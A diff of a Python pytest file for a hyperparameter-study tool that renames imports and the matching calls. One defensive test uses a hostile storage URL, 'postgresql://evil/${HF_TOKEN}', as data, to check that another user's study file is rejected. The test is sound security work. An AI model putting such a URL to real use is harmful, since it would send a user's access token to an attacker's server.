@@ -8,9 +8,9 @@ import shutil
 import pytest
 
 from core import paths
-from core.contract import specfile
+from core.contract.spec import spec_file
 from core.errors import SpecError
-from core.search.oracle import Oracle
+from core.search.study.optuna_study import Oracle
 from tests.search import studies
 from tests.search.test_respaced import NARROW
 from tests.stranger import needs_root
@@ -22,7 +22,7 @@ def old(tmp_path_factory):
     folder = tmp_path_factory.mktemp("earlier") / "old"
     folder.mkdir()
     raw = {**studies.raw("random"), "study": {**studies.raw("random")["study"], "name": "old"}}
-    (folder / "study.toml").write_text(specfile.write(specfile.parse(raw)))
+    (folder / "study.toml").write_text(spec_file.write(spec_file.parse(raw)))
     oracle = Oracle(raw, str(folder))
     for number in range(10):
         proposal = oracle.ask(number)
@@ -97,7 +97,7 @@ def test_another_users_study_cannot_name_a_storage(tmp_path, earlier, monkeypatc
     """Its URL may hold ${NAME}: a password of ours would be sent to whom it names."""
     file = paths.studies() / "old" / "study.toml"
     raw = studies.raw("random", storage="postgresql://evil/${HF_TOKEN}")
-    file.write_text(specfile.write(specfile.parse(raw)))
+    file.write_text(spec_file.write(spec_file.parse(raw)))
     os.chown(file, 65534, 65534)
     with pytest.raises(SpecError, match=r"study\.toml of 'old' is a link or another user's"):
         begun(tmp_path)
